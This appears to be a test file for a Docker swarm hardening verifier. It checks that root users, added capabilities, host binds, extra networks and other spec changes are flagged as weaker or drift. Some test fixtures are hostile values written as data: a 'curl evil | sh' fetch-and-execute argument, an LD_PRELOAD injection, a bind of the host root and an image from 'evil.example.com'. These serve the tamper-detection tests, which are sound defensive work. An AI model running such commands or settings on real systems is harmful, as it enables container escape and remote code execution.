/**
 * compareService (verify for swarm services) against live specs derived from a HardenedService's own create
 * request, changed one field at a time; and constraintHolds against swarmkit's matching rules. The real swarm is
 * exercised in test/engine/swarm.test.ts.
 */
import { describe, expect, test } from 'vitest';
import { liveService, NODE, servicePlan } from './service-fixture';
import { HealthCheck } from '../../lib';
import { ServiceCreatePlan } from '../../lib/engine/service-mapping';
import { intruders, intruderServices } from '../../lib/verify/check-networks';
import { compareService, constraintHolds, LiveNode } from '../../lib/verify/check-services';

/** The create request of a default HardenedService in zone `internal` with one secret and a healthcheck. */
function plan(): ServiceCreatePlan {
  return servicePlan({ healthCheck: HealthCheck.exec(['/app', 'health']) });
}

const live = liveService;

function findings(change: (spec: any) => void = () => undefined, context: (c: any) => void = () => undefined): string[] {
  const p = plan();
  const l = live(p, change);
  context(l.context);
  return compareService(p, l.service, l.context).map((f) => `${f.kind} ${f.field}`).sort();
}

describe('compareService: the live service, its tasks and their nodes against the declaration', () => {
  test('the declared spec as the swarm runs it: no finding (a task of the service\'s own spec is not compared twice)', () => {
    expect(findings()).toEqual([]);
  });

  test('weaker: root user, writable root, cap_drop gone, an added capability, a privileged-looking SELinux context', () => {
    expect(findings((s) => { s.TaskTemplate.ContainerSpec.User = '0:0'; })).toEqual(['weaker user']);
    expect(findings((s) => { s.TaskTemplate.ContainerSpec.ReadOnly = false; })).toEqual(['weaker read_only']);
    expect(findings((s) => { delete s.TaskTemplate.ContainerSpec.CapabilityDrop; })).toEqual(['weaker cap_drop']);
    expect(findings((s) => { s.TaskTemplate.ContainerSpec.CapabilityAdd = ['net_admin']; })).toEqual(['weaker cap_add.CAP_NET_ADMIN']);
    expect(findings((s) => { s.TaskTemplate.ContainerSpec.Privileges = { SELinuxContext: { Disable: true } }; })).toEqual(['weaker privileges']);
  });

  test('weaker: an undeclared bind, a secret mode widened or re-owned, higher limits, unbounded restarts, a lost zone constraint', () => {
    expect(findings((s) => { s.TaskTemplate.ContainerSpec.Mounts.push({ Type: 'bind', Source: '/', Target: '/host' }); }))
      .toEqual(['weaker mounts./host']);
    expect(findings((s) => { s.TaskTemplate.ContainerSpec.Secrets[0].File.Mode = 0o444; })).toContain('weaker secrets.db');
    expect(findings((s) => { s.TaskTemplate.ContainerSpec.Secrets[0].File.UID = '0'; })).toContain('weaker secrets.db');
    expect(findings((s) => { delete s.TaskTemplate.Resources.Limits.MemoryBytes; })).toContain('weaker limits.memory');
    expect(findings((s) => { s.TaskTemplate.Resources.Limits.NanoCPUs *= 2; })).toContain('weaker limits.cpus');
    expect(findings((s) => { s.TaskTemplate.RestartPolicy = { Condition: 'any' }; })).toEqual(expect.arrayContaining([
      'weaker restart_policy.condition', 'weaker restart_policy.max_attempts',
    ]));
    expect(findings((s) => { s.TaskTemplate.Placement = {}; })).toContain('weaker placement.constraints');
  });

  test('weaker: an undeclared network or published port', () => {
    expect(findings((s) => { s.TaskTemplate.Networks.push({ Target: 'other-net-id' }); })).toContain('weaker networks.other-net-id');
    expect(findings((s) => { s.EndpointSpec = { Ports: [{ TargetPort: 8080, PublishedPort: 80, Protocol: 'tcp', PublishMode: 'ingress' }] }; }))
      .toEqual(['weaker ports.80->8080/tcp (ingress)']);
  });

  test('a task of an older, weaker spec is reported under its slot; the service spec alone would look fine', () => {
    expect(findings(() => undefined, (c) => {
      c.tasks[0] = { ...c.tasks[0], Spec: { ...c.tasks[0].Spec, ContainerSpec: { ...c.tasks[0].Spec.ContainerSpec, User: 'root' } } };
    })).toEqual(['weaker tasks.1.user']);
  });

  test('a task on a node that no longer carries the zone label (relabelled after scheduling) is weaker', () => {
    expect(findings(() => undefined, (c) => { c.nodes = [{ ...NODE, Spec: { Role: 'worker', Labels: { 'cdktf-hardened-docker.trust-zone': 'dmz' } } }]; }))
      .toEqual(['weaker tasks.1.placement']);
    expect(findings(() => undefined, (c) => { c.nodes = []; })).toEqual(['weaker tasks.1.placement']);
  });

  test('stopped: fewer running tasks than replicas, a task that should run but does not', () => {
    expect(findings(() => undefined, (c) => { c.tasks = []; })).toEqual(['stopped tasks']);
    expect(findings(() => undefined, (c) => { c.tasks[0] = { ...c.tasks[0], Status: { State: 'rejected', Err: 'no suitable node' } }; }))
      .toEqual(['stopped tasks', 'stopped tasks.1.state']);
  });

  test('drift (not failing without --strict): more replicas, a lower limit', () => {
    expect(findings((s) => { s.Mode = { Replicated: { Replicas: 3 } }; })).toEqual(['drift mode.replicas']);
    expect(findings((s) => { s.TaskTemplate.Resources.Limits.MemoryBytes /= 2; })).toEqual(['drift limits.memory']);
  });

  test('weaker: any environment difference (it configures the program: LD_PRELOAD, NODE_OPTIONS, a TLS switch)', () => {
    expect(findings((s) => { s.TaskTemplate.ContainerSpec.Env = ['LD_PRELOAD=/tmp/x.so']; })).toEqual(['weaker env.LD_PRELOAD']);
  });
});

describe('constraintHolds: swarmkit\'s matching (manager/constraint/constraint.go)', () => {
  const node: LiveNode = { ID: 'abc', Description: { Hostname: 'Worker-1' }, Spec: { Role: 'worker', Labels: { zone: 'DMZ' } } };
  test.each([
    ['node.labels.zone == dmz', true], // values compared case-insensitively
    ['NODE.LABELS.zone==DMZ', true], // the prefix too
    ['node.labels.Zone == dmz', false], // the label name is case-sensitive: missing, matched as ""
    ['node.labels.missing != x', true],
    ['node.labels.zone != dmz', false],
    ['node.hostname == worker-1', true],
    ['node.role == manager', false],
    ['node.id == abc', true],
    ['node.platform.os == linux', undefined],
    ['garbage', undefined],
  ] as const)('%s -> %s', (constraint, expected) => {
    expect(constraintHolds(constraint, node)).toBe(expected);
  });
});

describe('compareService: what else a task can be given', () => {
  test('weaker: a supplementary group, shared propagation on a bind, another volume driver configuration', () => {
    expect(findings((s) => { s.TaskTemplate.ContainerSpec.Groups = ['docker']; })).toEqual(['weaker groups.docker']);
    expect(findings((s) => {
      s.TaskTemplate.ContainerSpec.Mounts.push({ Type: 'bind', Source: '/srv/x', Target: '/x', ReadOnly: true, BindOptions: { Propagation: 'rshared' } });
    }, () => undefined)).toEqual(['weaker mounts./x']);
  });
  test('hosts entries redirect names (weaker); a hostname is drift', () => {
    expect(findings((s) => { s.TaskTemplate.ContainerSpec.Hosts = ['10.0.0.1 db']; })).toEqual(['weaker hosts']);
    expect(findings((s) => { s.TaskTemplate.ContainerSpec.Hostname = 'x'; })).toEqual(['drift hostname']);
  });
});

describe('compareService: fails closed on what a tamperer can change', () => {
  test.each([
    ['logging switched off', (s: any) => { s.TaskTemplate.LogDriver = { Name: 'none' }; }, 'weaker log_driver'],
    ['a restart window (restarts never stop)', (s: any) => { s.TaskTemplate.RestartPolicy.Window = 1e9; }, 'weaker restart_policy.window'],
    ['another program', (s: any) => { s.TaskTemplate.ContainerSpec.Args = ['sh', '-c', 'curl evil | sh']; }, 'weaker args'],
    ['the healthcheck disabled', (s: any) => { s.TaskTemplate.ContainerSpec.Healthcheck = { Test: ['NONE'] }; }, 'weaker healthcheck'],
    ['another secret under the same file name', (s: any) => { s.TaskTemplate.ContainerSpec.Secrets[0].SecretID = 'other'; }, 'weaker secrets.db'],
    ['a secret that is not declared', (s: any) => {
      s.TaskTemplate.ContainerSpec.Secrets.push({ SecretID: 'other', SecretName: 'root-ca-key', File: { Name: 'ca', UID: '0', GID: '0', Mode: 0o400 } });
    }, 'weaker secrets.ca'],
    ['ulimits', (s: any) => { s.TaskTemplate.ContainerSpec.Ulimits = [{ Name: 'nproc', Soft: 1e6, Hard: 1e6 }]; }, 'weaker ulimits'],
    ['an unknown ContainerSpec field', (s: any) => { s.TaskTemplate.ContainerSpec.CredentialSpec = { Config: 'x' }; }, 'weaker container_spec.CredentialSpec'],
    ['a plugin runtime', (s: any) => { s.TaskTemplate.PluginSpec = { Name: 'evil' }; }, 'weaker task_spec.PluginSpec'],
    ['an undeclared alias', (s: any) => { s.TaskTemplate.Networks[0].Aliases = ['db']; }, expect.stringMatching(/^weaker networks\..*\.aliases$/)],
    ['another repository', (s: any) => { s.TaskTemplate.ContainerSpec.Image = 'evil.example.com/api:latest'; }, 'weaker image'],
    ['the deprecated top-level Networks', (s: any) => { s.Networks = [{ Target: 'other-net' }]; }, 'weaker networks.other-net'],
    ['a job instead of a service', (s: any) => { s.Mode = { ReplicatedJob: {} }; }, 'weaker mode'],
  ])('%s', (_what, change, expected) => {
    expect(findings(change)).toContainEqual(expected);
  });
});

describe('intruders on a swarm network', () => {
  test('a container is exempt as a declared service\'s task only by the swarm\'s task list, not by its service label', () => {
    const attached = [
      { id: 'task-1', name: 'api.1.x', image: 'img', state: 'running', service: 'api' },
      { id: 'evil-1', name: 'evil', image: 'alpine', state: 'running', service: 'api' }, // a label anyone can set
    ];
    expect(intruders('s', 'docker_network.n', 'n', attached, new Set(), new Set(['task-1'])).map((f) => f.field)).toEqual(['containers.evil']);
  });
  test('an undeclared service on the network is an intruder', () => {
    expect(intruderServices('s', 'docker_network.n', 'n', [{ id: 'svc1', name: 'spy', image: 'alpine' }, { id: 'svc2', name: 'api', image: 'img' }], new Set(['api']))
      .map((f) => [f.kind, f.field])).toEqual([['intruder', 'services.spy']]);
  });
});
